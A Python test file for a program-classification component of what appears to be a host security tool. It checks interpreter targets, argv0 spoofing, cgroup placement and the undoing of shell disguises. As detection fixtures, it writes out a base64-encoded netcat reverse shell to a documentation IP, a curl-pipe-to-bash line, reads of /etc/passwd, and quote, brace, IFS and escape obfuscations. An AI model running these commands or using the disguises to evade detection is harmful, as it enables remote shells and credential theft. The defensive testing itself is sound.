"""What rules may ask about a program."""

from __future__ import annotations

import base64

import pytest
from brainkernel.classify.facts import Facts, Place, decoded_parts, undisguised
from brainkernel.classify.knowledge import Knowledge
from brainkernel.model import Category, Evidence, Mark, Program, Unit

KNOWLEDGE = Knowledge()


def facts(exe: str, *argv: str, evidence: Evidence | None = None, **program: object) -> Facts:
    """Facts of a program with a plain record."""
    return Facts(Program(exe=exe, argv=argv or (exe,), **program), evidence or Evidence(), KNOWLEDGE)  # type: ignore[arg-type]


def test_target_of_an_interpreter_is_its_script() -> None:
    """python3 running a packaged program is that program."""
    found = facts("/usr/bin/python3.11", "/usr/bin/python3", "/usr/bin/unattended-upgrade")

    assert found.target == "/usr/bin/unattended-upgrade"
    assert not found.target_is_told
    assert found.package is not None
    assert found.package.name == "unattended-upgrades"


def test_target_of_a_file_with_many_names_is_the_name_it_was_called_by() -> None:
    """Debian's redis-server is a link to redis-check-rdb, and the kernel reports the file."""
    found = facts("/usr/bin/redis-check-rdb", "/usr/bin/redis-server", "127.0.0.1:6379")

    assert found.target == "/usr/bin/redis-server"


@pytest.mark.parametrize("exe", ["/tmp/x", "/home/bob/sshd", "/usr/bin/perl"])
def test_argv0_does_not_make_a_program_another(exe: str) -> None:
    """A program cannot become sshd by saying so."""
    assert facts(exe, "/usr/sbin/sshd", "-D").target != "/usr/sbin/sshd"


def test_ancestor_where_anybody_may_write_has_no_name() -> None:
    """/tmp/cron is not cron, so its children are not cron's jobs."""
    found = facts("/usr/bin/tar", parents=("/usr/bin/dash", "/tmp/cron"))

    assert "cron" not in found.parent_names
    assert found.starter == ""


def test_starter_is_the_nearest_ancestor_that_is_no_shell() -> None:
    """Shells and wrappers only pass on what somebody else wanted."""
    parents = ("/usr/bin/dash", "/usr/bin/nice", "/usr/bin/run-parts", "/usr/sbin/cron", "/usr/lib/systemd/systemd")

    assert facts("/usr/bin/tar", parents=parents).starter == "cron"


@pytest.mark.parametrize(
    ("cgroup", "place"),
    [
        ("/system.slice/nginx.service", Place.SYSTEM_SERVICE),
        ("/system.slice/system-postgresql.slice/postgresql@15-main.service", Place.SYSTEM_SERVICE),
        ("/user.slice/user-1000.slice/user@1000.service/app.slice/app-mpv-45.scope", Place.APP),
        ("/user.slice/user-1000.slice/user@1000.service/app.slice/app-org.gnome.Terminal.slice/vte-spawn-1.scope", Place.TERMINAL),
        ("/user.slice/user-1000.slice/user@1000.service/session.slice/pipewire.service", Place.USER_SERVICE),
        ("/user.slice/user-1000.slice/session-3.scope", Place.SESSION),
        ("/system.slice/docker-0a1b.scope", Place.CONTAINER),
        ("/kubepods.slice/kubepods-burstable.slice/cri-containerd-77.scope", Place.CONTAINER),
    ],
)
def test_place_follows_from_the_cgroup(cgroup: str, place: Place) -> None:
    """Systemd's naming of cgroups says where a program lives."""
    assert facts("/usr/bin/x", cgroup=cgroup).place is place


def test_unit_of_the_host_counts_before_the_cgroup() -> None:
    """What was looked up is surer than what a path suggests."""
    found = facts("/usr/bin/x", cgroup="/system.slice/a.service", evidence=Evidence(unit=Unit(name="b.service")))

    assert found.unit == "b.service"


def test_marks_come_from_the_path_as_well() -> None:
    """An offline record has no kernel to set marks."""
    assert {Mark.WORLD_WRITABLE_DIR, Mark.HIDDEN_DIR, Mark.ARGV0_MISMATCH} <= facts("/tmp/.x/a", "b").marks
    assert Mark.MEMFD in facts("/memfd:x (deleted)").marks


def test_encoded_commands_are_judged_decoded() -> None:
    """Base64 hides nothing."""
    hidden = base64.b64encode(b"nc -e /bin/sh 203.0.113.5 4444").decode()

    found = facts("/usr/bin/bash", "bash", "-c", f"echo {hidden} | base64 -d | sh")

    assert "nc" in found.names
    assert "nc -e /bin/sh" in found.text


@pytest.mark.parametrize(
    ("text", "plain"),
    [
        ("{curl,-s,x}|{bash,-i}", "curl -s x|bash -i"),
        ("cat${IFS}/etc/passwd", "cat /etc/passwd"),
        ("c\"\"url h''ttp", "curl http"),
        ("w\\get", "wget"),
        ("w'g'et", "wget"),
        ("echo 'it'", "echo 'it'"),
        (r"$'\x73\150' -c id", "sh -c id"),
        (r"X=$'cat\x20/etc/hosts'", "X=cat /etc/hosts"),
        (r"printf 'curl x|sh\n' > a", "printf 'curl x|sh ' > a"),
        (r"u\name -a", "uname -a"),
    ],
)
def test_cheap_disguises_are_undone(text: str, plain: str) -> None:
    """Braces, IFS, quotes, codes of letters and backslashes change nothing for a shell, so they change nothing here."""
    assert undisguised(text) == plain


def test_digests_and_keys_are_not_taken_for_commands() -> None:
    """Random bytes are no text."""
    assert decoded_parts("sha256sum e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855") == []


def test_long_command_line_is_searched_at_both_ends() -> None:
    """What comes after a long filling is still seen, and the work is bounded."""
    found = facts("/usr/bin/bash", "bash", "-c", "x" * 100_000, "end-marker")

    assert found.raw_text.endswith("end-marker")
    assert len(found.raw_text) < 40_000


def test_unknown_file_is_known_as_nothing() -> None:
    """No metadata, no claim."""
    assert facts("/opt/acme/bin/thing").known is Category.UNKNOWN
